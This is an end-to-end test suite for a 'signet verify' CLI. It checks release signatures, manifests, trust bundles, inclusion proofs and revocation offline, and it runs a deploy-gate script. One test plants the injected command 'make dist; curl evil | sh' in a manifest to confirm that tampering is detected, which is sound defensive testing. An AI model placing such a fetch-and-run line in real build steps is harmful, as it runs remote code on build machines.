/**
 * `signet verify` end to end, the way a deployment gate runs it: `signet init`,
 * `signet serve`, `signet manifest create` over a release directory, `signet sign
 * --payload` (raw, and every other format), the trust bundle saved from
 * GET /v1/trust, then the built CLI verifying in a network namespace with no interface
 * up (`unshare -rn`: no route out, not even loopback). Each failure class is produced by
 * one tampering and exits with its status; the real deploy-gate.sh runs on top.
 */
import { spawn, spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { chmodSync, cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CLI, runCli, startServe, type CliResult, type ServeProcess } from '../helpers/cli.js';
import { httpsCall } from '../helpers/dev-env.js';
import { freeServicePort } from '../../bench/local-service.js';

const ROOT = join(dirname(fileURLToPath(import.meta.url)), '..', '..');
const COMMIT = '4c1e0b1d9a7f3e2b6c5d8e9f0a1b2c3d4e5f6a7b';

interface InitJson {
  config: string;
  url: string;
  caCert: string;
}

let work: string;
let init: InitJson;
let serve: ServeProcess;
/** A release as CI uploads it: dist/ and release/ (manifest, signature, receipt). */
let release: string;
let trustFile: string;

const manifestOf = (dir: string) => join(dir, 'release', 'manifest.intoto.json');
const signatureOf = (dir: string) => join(dir, 'release', 'manifest.intoto.json.sig');
const receiptOf = (dir: string) => `${signatureOf(dir)}.receipt.json`;

/** Environment without CI variables, so the manifest's source comes from the options. */
function plainEnv(extra: NodeJS.ProcessEnv = {}): NodeJS.ProcessEnv {
  const env: NodeJS.ProcessEnv = { PATH: process.env.PATH, HOME: process.env.HOME, ...extra };
  if (process.env.SOFTHSM2_CONF !== undefined) env.SOFTHSM2_CONF = process.env.SOFTHSM2_CONF;
  return env;
}

/** The CLI in a new user and network namespace: no interface is up, nothing can be reached. */
async function runOffline(args: readonly string[]): Promise<CliResult> {
  const child = spawn('unshare', ['--user', '--map-root-user', '--net', process.execPath, CLI, ...args], { env: plainEnv(), stdio: ['ignore', 'pipe', 'pipe'] });
  let stdout = '';
  let stderr = '';
  child.stdout.on('data', (d: Buffer) => (stdout += d.toString()));
  child.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
  const code = await new Promise<number | null>((resolve) => child.on('close', resolve));
  return { code, stdout, stderr };
}

function verifyArgs(dir: string, ...extra: string[]): string[] {
  return ['verify', '--manifest', manifestOf(dir), '--signature', signatureOf(dir), '--dir', join(dir, 'dist'), '--trust-bundle', trustFile, ...extra];
}

/** A copy of the release to tamper with. */
function copyRelease(): string {
  const dir = mkdtempSync(join(tmpdir(), 'signet-verify-copy-'));
  cpSync(release, dir, { recursive: true });
  return dir;
}

function editReceipt(dir: string, change: (receipt: any) => void): void {
  const receipt = JSON.parse(readFileSync(receiptOf(dir), 'utf8'));
  change(receipt);
  writeFileSync(receiptOf(dir), JSON.stringify(receipt, null, 2));
}

async function trustBundleOf(url: string, caFile: string): Promise<string> {
  const answer = await httpsCall(`${url}/v1/trust`, { ca: readFileSync(caFile) });
  expect(answer.status).toBe(200);
  return answer.text;
}

beforeAll(async () => {
  work = mkdtempSync(join(tmpdir(), 'signet-verify-e2e-'));
  const dev = join(work, 'dev');
  const created = await runCli(['init', '--dir', dev, '--json', '--port', String(await freeServicePort())]);
  expect(created.code, created.stderr).toBe(0);
  init = JSON.parse(created.stdout) as InitJson;
  serve = await startServe(init.config);

  release = join(work, 'rel');
  mkdirSync(join(release, 'dist', 'docs'), { recursive: true });
  mkdirSync(join(release, 'release'));
  writeFileSync(join(release, 'dist', 'app.tar.gz'), createHash('sha512').update('app').digest());
  writeFileSync(join(release, 'dist', 'docs', 'manual.txt'), 'read me\n');
  const manifest = await runCli(
    [
      'manifest', 'create', '--dir', join(release, 'dist'), '--version', '1.2.0', '--build-command', 'make dist',
      '--source-repository', 'https://github.com/example/demo', '--commit', COMMIT, '--ref', 'refs/tags/v1.2.0',
      '--builder-id', 'https://github.com/example/demo/.github/workflows/release.yml@refs/tags/v1.2.0', '--out', manifestOf(release),
    ],
    { env: plainEnv() },
  );
  expect(manifest.code, manifest.stderr).toBe(0);
  const token = await runCli(['dev-token', '--dir', dev, '--claim', 'ref=refs/tags/v1.2.0']);
  expect(token.code).toBe(0);
  const signed = await runCli(['sign', '--dir', dev, '--payload', manifestOf(release), '--out', signatureOf(release), '--token', token.stdout.trim()]);
  expect(signed.code, signed.stderr).toBe(0);
  expect(existsSync(receiptOf(release))).toBe(true);

  trustFile = join(work, 'trust.json');
  writeFileSync(trustFile, await trustBundleOf(init.url, init.caCert));
});

afterAll(async () => {
  await serve.stop();
});

describe('signet verify', () => {
  it('verifies the untouched release with no network at all (exit 0)', async () => {
    const result = await runOffline(verifyArgs(release));
    expect(result.stderr).toBe('');
    expect(result.code, result.stderr).toBe(0);
    expect(result.stdout).toMatch(/^verified: 2 artifacts match the manifest, signed \(raw\) by demo-release@1 and logged at index \d+ on \S+\n$/);
    // The namespace really has no route: a URL cannot be fetched from it.
    const fetched = await runOffline(['verify', '--manifest', manifestOf(release), '--signature', signatureOf(release), '--dir', join(release, 'dist'), '--trust-bundle', `${init.url}/v1/trust`]);
    expect(fetched.code).toBe(1);
    expect(fetched.stderr).toMatch(/^signet verify: TRUST_BUNDLE_UNAVAILABLE: /);
  });

  it('--json prints the whole result', async () => {
    const ok = await runOffline(verifyArgs(release, '--json'));
    expect(ok.code).toBe(0);
    const verified = JSON.parse(ok.stdout);
    expect(verified).toMatchObject({
      ok: true,
      exitCode: 0,
      code: 'VERIFIED',
      format: 'raw',
      keyId: 'demo-release@1',
      log: { timeSource: 'decision-entry' },
      identity: { issuer: 'https://dev-issuer.signet.invalid', claims: { repository: 'example/demo', ref: 'refs/tags/v1.2.0' } },
      artifacts: [{ name: 'app.tar.gz' }, { name: 'docs/manual.txt' }],
      warnings: [],
    });
    expect(verified.certificateSerialNumber).toMatch(/^[0-9a-f]+$/);
    expect(Object.keys(verified).sort()).toEqual(['artifacts', 'certificateSerialNumber', 'code', 'exitCode', 'format', 'identity', 'keyId', 'log', 'ok', 'reason', 'warnings']);
    expect(Object.keys(verified.log).sort()).toEqual(['index', 'integratedTime', 'loggedAt', 'timeSource', 'treeSize']);

    const dir = copyRelease();
    writeFileSync(join(dir, 'dist', 'stray.sh'), '#!/bin/sh\n');
    const refused = await runOffline(verifyArgs(dir, '--json'));
    expect(refused.code).toBe(4);
    expect(JSON.parse(refused.stdout)).toEqual({ ok: false, class: 'artifact-not-in-manifest', exitCode: 4, code: 'ARTIFACT_NOT_IN_MANIFEST', reason: 'artifact "stray.sh" is not listed in the signed manifest' });
    expect(refused.stderr).toBe('signet verify: ARTIFACT_NOT_IN_MANIFEST: artifact "stray.sh" is not listed in the signed manifest\n');
  });

  it('one changed byte in an artifact: exit 3', async () => {
    const dir = copyRelease();
    const file = join(dir, 'dist', 'app.tar.gz');
    const bytes = readFileSync(file);
    bytes[7] = (bytes[7] ?? 0) ^ 0x01;
    writeFileSync(file, bytes);
    const result = await runOffline(verifyArgs(dir));
    expect(result.code).toBe(3);
    expect(result.stderr).toMatch(/^signet verify: ARTIFACT_MODIFIED: artifact "app.tar.gz" differs from the signed manifest/);
  });

  it('the manifest edited after signing: exit 5', async () => {
    const dir = copyRelease();
    writeFileSync(manifestOf(dir), readFileSync(manifestOf(dir), 'utf8').replace('"make dist"', '"make dist; curl evil | sh"'));
    const result = await runOffline(verifyArgs(dir));
    expect(result.code).toBe(5);
    expect(result.stderr).toMatch(/^signet verify: SIGNATURE_INVALID: /);
  });

  it("another deployment's trust bundle: exit 6", async () => {
    const otherDir = join(work, 'other');
    const created = await runCli(['init', '--dir', otherDir, '--json', '--port', String(await freeServicePort())]);
    expect(created.code, created.stderr).toBe(0);
    const other = JSON.parse(created.stdout) as InitJson;
    const otherServe = await startServe(other.config);
    try {
      const otherTrust = join(work, 'other-trust.json');
      writeFileSync(otherTrust, await trustBundleOf(other.url, other.caCert));
      const result = await runOffline(['verify', '--manifest', manifestOf(release), '--signature', signatureOf(release), '--dir', join(release, 'dist'), '--trust-bundle', otherTrust]);
      expect(result.code).toBe(6);
      // The receipt carries this deployment's chain, which the other bundle's root did not issue.
      expect(result.stderr).toMatch(/^signet verify: CHAIN_ROOT_UNTRUSTED: /);
    } finally {
      await otherServe.stop();
    }
  });

  it('a tampered inclusion proof: exit 8; a checkpoint with a bad signature: exit 9', async () => {
    const proof = copyRelease();
    editReceipt(proof, (r) => {
      const hash = Buffer.from(r.log.inclusionProof[0], 'base64');
      hash[0] = (hash[0] ?? 0) ^ 0x80;
      r.log.inclusionProof[0] = hash.toString('base64');
    });
    const badProof = await runOffline(verifyArgs(proof));
    expect(badProof.code).toBe(8);
    expect(badProof.stderr).toMatch(/^signet verify: INCLUSION_PROOF_INVALID: /);

    const checkpoint = copyRelease();
    editReceipt(checkpoint, (r) => {
      const lines = (r.log.checkpoint as string).split('\n');
      const [dash, name, blob] = (lines[4] ?? '').split(' ');
      const bytes = Buffer.from(blob ?? '', 'base64');
      bytes[bytes.length - 3] = (bytes[bytes.length - 3] ?? 0) ^ 0x01;
      lines[4] = `${dash ?? ''} ${name ?? ''} ${bytes.toString('base64')}`;
      r.log.checkpoint = lines.join('\n');
    });
    const badCheckpoint = await runOffline(verifyArgs(checkpoint));
    expect(badCheckpoint.code).toBe(9);
    expect(badCheckpoint.stderr).toMatch(/^signet verify: CHECKPOINT_SIGNATURE_INVALID: /);
  });

  it('identity constraints against the logged decision (exit 0 or 10), failing closed without it', async () => {
    const right = await runOffline(verifyArgs(release, '--repository', 'example/demo', '--workflow', 'example/demo/.github/workflows/release.yml', '--ref', 'refs/tags/v*', '--json'));
    expect(right.code, right.stderr).toBe(0);
    expect(JSON.parse(right.stdout)).toMatchObject({ ok: true, log: { timeSource: 'decision-entry' }, identity: { claims: { repository: 'example/demo', ref: 'refs/tags/v1.2.0' } }, warnings: [] });
    const wrong = await runOffline(verifyArgs(release, '--repository', 'example/other'));
    expect(wrong.code).toBe(10);
    expect(wrong.stderr).toBe('signet verify: REPOSITORY_MISMATCH: the release was signed for repository "example/demo", not "example/other"\n');
    const wrongRef = await runOffline(verifyArgs(release, '--ref', 'refs/heads/*'));
    expect(wrongRef.code).toBe(10);

    const stripped = copyRelease();
    editReceipt(stripped, (r) => {
      delete r.log.decision;
    });
    const unverifiable = await runOffline(verifyArgs(stripped, '--repository', 'example/demo'));
    expect(unverifiable.code).toBe(10);
    expect(unverifiable.stderr).toMatch(/^signet verify: IDENTITY_UNVERIFIABLE: .*log\.decision/);
    const noConstraint = await runOffline(verifyArgs(stripped));
    expect(noConstraint.code).toBe(0);
    expect(noConstraint.stderr).toMatch(/^signet verify: warning: the log time comes from the receipt alone/);
  });

  it('every format `signet sign` writes verifies, and refuses a manifest edited after signing', async () => {
    const dev = join(work, 'dev');
    for (const format of ['dsse', 'pgp', 'cms', 'sigstore-bundle'] as const) {
      const dir = copyRelease();
      const token = await runCli(['dev-token', '--dir', dev, '--claim', 'ref=refs/tags/v1.2.0']);
      const out = join(dir, 'release', `manifest.intoto.json.${format}`);
      const signed = await runCli(['sign', '--dir', dev, '--payload', manifestOf(dir), '--format', format, '--out', out, '--token', token.stdout.trim()]);
      expect(signed.code, signed.stderr).toBe(0);
      const args = ['verify', '--manifest', manifestOf(dir), '--signature', out, '--dir', join(dir, 'dist'), '--trust-bundle', trustFile, '--repository', 'example/demo', '--json'];
      const result = await runOffline(args);
      expect(result.code, `${format}: ${result.stderr}`).toBe(0);
      expect(JSON.parse(result.stdout)).toMatchObject({ ok: true, format, keyId: 'demo-release@1', log: { timeSource: 'decision-entry' } });
      writeFileSync(manifestOf(dir), readFileSync(manifestOf(dir), 'utf8').replace('"1.2.0"', '"1.2.1"'));
      const edited = await runOffline(args);
      expect(edited.code, format).toBe(5);
    }
  });

  it('a trust bundle fetched once over https, pinned by its SHA-256', async () => {
    const pin = createHash('sha256').update(readFileSync(trustFile)).digest('hex');
    const env = { ...process.env, NODE_EXTRA_CA_CERTS: init.caCert };
    const base = ['verify', '--manifest', manifestOf(release), '--signature', signatureOf(release), '--dir', join(release, 'dist'), '--trust-bundle', `${init.url}/v1/trust`];
    const pinned = await runCli([...base, '--trust-bundle-sha256', pin], { env });
    expect(pinned.code, pinned.stderr).toBe(0);
    const wrongPin = await runCli([...base, '--trust-bundle-sha256', 'ab'.repeat(32)], { env });
    expect(wrongPin.code).toBe(6);
    expect(wrongPin.stderr).toMatch(/^signet verify: TRUST_BUNDLE_PIN_MISMATCH: /);
    // The pin applies to a file too.
    const filePinned = await runOffline([...verifyArgs(release), '--trust-bundle-sha256', pin.toUpperCase()]);
    expect(filePinned.code).toBe(0);
    // Without the server's CA, TLS refuses the connection.
    const untrusted = await runCli(base, { env: plainEnv() });
    expect(untrusted.code).toBe(1);
    expect(untrusted.stderr).toMatch(/^signet verify: TRUST_BUNDLE_UNAVAILABLE: /);
  });

  it('usage mistakes exit 2', async () => {
    const cases = [
      ['verify'],
      ['verify', '--manifest', 'm', '--signature', 's', '--trust-bundle', 't'],
      ['verify', '--manifest', 'm', '--signature', 's', '--trust-bundle', 't', '--dir', 'd', '--artifact', 'a'],
      ['verify', '--manifest', 'm', '--signature', 's', '--trust-bundle', 'http://example.com/v1/trust', '--dir', 'd'],
      ['verify', '--manifest', 'm', '--signature', 's', '--trust-bundle', 't', '--dir', 'd', '--trust-bundle-sha256', 'abc'],
      ['verify', '--bogus'],
    ];
    for (const args of cases) {
      const result = await runOffline(args);
      expect(result.code, args.join(' ')).toBe(2);
      expect(result.stderr).toMatch(/^signet: USAGE: /);
    }
    const missing = await runOffline(['verify', '--manifest', join(work, 'none.json'), '--signature', signatureOf(release), '--dir', join(release, 'dist'), '--trust-bundle', trustFile]);
    expect(missing.code).toBe(1);
    expect(missing.stderr).toMatch(/^signet verify: FILE_UNREADABLE: cannot read the manifest/);
  });

  it('artifacts named one by one', async () => {
    const result = await runOffline(['verify', '--manifest', manifestOf(release), '--signature', signatureOf(release), '--artifact', join(release, 'dist', 'docs', 'manual.txt'), '--trust-bundle', trustFile]);
    expect(result.code, result.stderr).toBe(0);
    expect(result.stdout).toMatch(/^verified: 1 artifact match/);
  });
});

describe('examples/ci/deploy-gate.sh with the real signet verify', () => {
  const GATE = join(ROOT, 'examples', 'ci', 'deploy-gate.sh');

  async function gate(dir: string): Promise<{ status: number | null; output: string; deployed: boolean }> {
    const bin = mkdtempSync(join(tmpdir(), 'signet-gate-bin-'));
    writeFileSync(join(bin, 'signet'), `#!/usr/bin/env bash\nexec "${process.execPath}" "${CLI}" "$@"\n`);
    chmodSync(join(bin, 'signet'), 0o755);
    const marker = join(dir, 'deployed');
    const child = spawn('bash', [GATE, dir, '--', 'touch', marker], {
      env: { PATH: `${bin}:${process.env.PATH ?? ''}`, SIGNET_TRUST_BUNDLE: trustFile, SIGNET_REPOSITORY: 'example/demo', SIGNET_REF: 'refs/tags/v*' },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let output = '';
    child.stdout.on('data', (d: Buffer) => (output += d.toString()));
    child.stderr.on('data', (d: Buffer) => (output += d.toString()));
    const status = await new Promise<number | null>((resolve) => child.on('close', resolve));
    return { status, output, deployed: existsSync(marker) };
  }

  it('deploys a verified release; stops with verify’s status and reason otherwise', async () => {
    const good = copyRelease();
    const passed = await gate(good);
    expect(passed.status, passed.output).toBe(0);
    expect(passed.deployed).toBe(true);

    const tampered = copyRelease();
    writeFileSync(join(tampered, 'dist', 'docs', 'manual.txt'), 'read me!\n');
    const refused = await gate(tampered);
    expect(refused.status).toBe(3);
    expect(refused.deployed).toBe(false);
    expect(refused.output).toContain('NOT deploying: an artifact was changed (ARTIFACT_MODIFIED: artifact "docs/manual.txt" differs from the signed manifest');
  });
});

describe('after a real revocation', () => {
  it('a key whose certificate was revoked for key compromise: exit 7', async () => {
    const revoked = await runCli(['ca', 'revoke', '--config', init.config, '--key-id', 'demo-release@1', '--reason', 'keyCompromise']);
    expect(revoked.code, revoked.stderr).toBe(0);
    const fresh = join(work, 'trust-after-revocation.json');
    writeFileSync(fresh, await trustBundleOf(init.url, init.caCert));
    const result = await runOffline(['verify', '--manifest', manifestOf(release), '--signature', signatureOf(release), '--dir', join(release, 'dist'), '--trust-bundle', fresh]);
    expect(result.code).toBe(7);
    expect(result.stderr).toMatch(/^signet verify: CERT_REVOKED: /);
  });
});

it('unshare is available (the offline checks above depend on it)', () => {
  expect(spawnSync('unshare', ['--user', '--map-root-user', '--net', 'true']).status).toBe(0);
});
